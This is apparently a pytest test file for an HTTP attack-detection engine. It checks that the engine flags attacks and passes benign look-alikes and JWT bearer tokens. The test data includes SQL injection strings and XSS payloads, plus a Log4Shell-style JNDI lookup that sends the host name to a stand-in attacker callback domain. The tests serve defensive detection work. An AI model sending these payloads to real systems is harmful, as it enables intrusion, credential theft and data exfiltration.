from __future__ import annotations

import base64
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from oob_analyzer.detection import DetectionEngine, default_detectors, extract_points, percent_decode
from tests.builders import http_request

ENGINE_DETECTORS = default_detectors()
FORM = (("Host", "shop.example.com"), ("Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"))


def analyze(target: str, *, body: bytes = b"", method: str = "GET") -> list[tuple[str, str, str]]:
    request = http_request(target, method=method, body=body, headers=FORM)
    return [(h.attack_type, h.point, h.payload) for h in DetectionEngine(default_detectors()).analyze(request)]


def test_points_of_query_and_form_are_named_and_decoded() -> None:
    request = http_request("/p%20a?id=1&a%5B%5D=x+y&bare", body=b"name=O%27Hara&x=1", headers=FORM)
    assert [(p.name, p.value) for p in extract_points(request) if p.kind != "header"] == [
        ("path", "/p a"),
        ("query.id", "1"),
        ("query.a[]", "x y"),
        ("query", "bare"),
        ("body.form.name", "O'Hara"),
        ("body.form.x", "1"),
    ]


def test_percent_decoding_is_repeated_and_keeps_literal_plus() -> None:
    assert percent_decode("%2527") == "'"
    assert percent_decode("1%2B1") == "1+1"
    assert percent_decode("caf%C3%A9") == "café"
    assert percent_decode("%FF") == "\xff"


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("/products?id=1%27%20OR%20%271%27%3D%271", [("sqli", "query.id", "1' OR '1'='1")]),
        (
            "/p?id=1+UNION+SELECT+username,password+FROM+users--",
            [("sqli", "query.id", "1 UNION SELECT username,password FROM users--")],
        ),
        ("/s?q=%3Cscript%3Ealert(1)%3C/script%3E", [("xss", "query.q", "<script>alert(1)</script>")]),
        ("/s?q=%253Csvg%2520onload%253Dalert(1)%253E", [("xss", "query.q", "<svg onload=alert(1)>")]),
    ],
)
def test_attacks_in_the_query_are_found(target: str, expected: list[tuple[str, str, str]]) -> None:
    assert analyze(target) == expected


def test_attacks_in_a_form_body_are_found() -> None:
    assert analyze("/login", method="POST", body=b"username=admin%27--&password=x") == [
        ("sqli", "body.form.username", "admin'--")
    ]


def test_one_hit_per_attack_type_per_request() -> None:
    hits = analyze("/p?a=1%27+OR+1%3D1--&b=2%27+OR+2%3D2--&c=%3Cscript%3Ex%3C/script%3E")
    assert [(t, p) for t, p, _ in hits] == [("sqli", "query.a"), ("xss", "query.c")]


@pytest.mark.parametrize(
    "target",
    [
        "/",
        "/products?category=shoes&sort=price_asc",
        "/search?q=o%27reilly+cookbook",
        "/search?q=select+a+size",
        "/forum?title=Tom+%26+Jerry&tags=a,b",
        "/calc?expr=3%3C5",
    ],
)
def test_benign_look_alikes_are_passed(target: str) -> None:
    assert analyze(target) == []


_HEADER_NAMES = st.sampled_from(["Content-Type", "Cookie", "User-Agent", "Content-Encoding", "X-Token", "Referer"])


@settings(max_examples=200, deadline=None)
@given(
    target=st.text(alphabet=st.characters(min_codepoint=0x21, max_codepoint=0x7E), max_size=120).map(lambda t: "/" + t),
    headers=st.lists(st.tuples(_HEADER_NAMES, st.text(max_size=80)), max_size=6),
    body=st.binary(max_size=400),
)
def test_engine_never_raises_on_any_request(target: str, headers: list[tuple[str, str]], body: bytes) -> None:
    request = http_request(target, method="POST", body=body, headers=(("Host", "x"), *headers))
    for hit in DetectionEngine(ENGINE_DETECTORS).analyze(request):
        assert hit.attack_type and hit.rule and hit.point


def _base64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


@settings(max_examples=300, deadline=None)
@given(
    claims=st.dictionaries(
        st.sampled_from(["sub", "name", "email", "scope", "iss", "aud", "tenant", "roles"]),
        st.one_of(
            st.uuids().map(str),
            st.integers(0, 1 << 40).map(str),
            st.from_regex(r"[a-z]{2,10}\.[a-z]{2,10}@[a-z]{3,10}\.(com|org|io)", fullmatch=True),
            st.from_regex(r"[a-z]{3,12}(:[a-z]{3,8})?( [a-z]{3,12}:[a-z]{3,8}){0,3}", fullmatch=True),
            st.sampled_from(["Ada Lovelace", "https://id.example.com/", "tenant-42", "admin user"]),
        ),
        min_size=1,
    ),
    signature=st.binary(min_size=32, max_size=64),
)
def test_a_bearer_token_is_not_an_attack(claims: dict[str, str], signature: bytes) -> None:
    """Every API call carries a JWT: its dot-separated base64 segments are not a callback domain."""
    header = _base64url(json.dumps({"alg": "HS256", "typ": "JWT"}).encode())
    token = f"{header}.{_base64url(json.dumps(claims).encode())}.{_base64url(signature)}"
    headers = (("Host", "shop.example.com"), ("Authorization", f"Bearer {token}"))
    request = http_request("/api/orders", headers=headers)
    assert DetectionEngine(ENGINE_DETECTORS).analyze(request) == []


@pytest.mark.parametrize(
    "value",
    [
        "${jndi:ldap://${hostName}.w63gecoroprj5um8ypnd7r6in9t0hseg3.attacker-dns.me/a}",
        "root@c59e3crp82ke7bcnedq0yyyyyyyyyyyyyy.callbacks.example.net",
    ],
)
def test_a_callback_host_with_a_random_label_is_found(value: str) -> None:
    request = http_request("/", headers=(("Host", "shop.example.com"), ("User-Agent", value)))
    assert "scanner" in {hit.attack_type for hit in DetectionEngine(ENGINE_DETECTORS).analyze(request)}
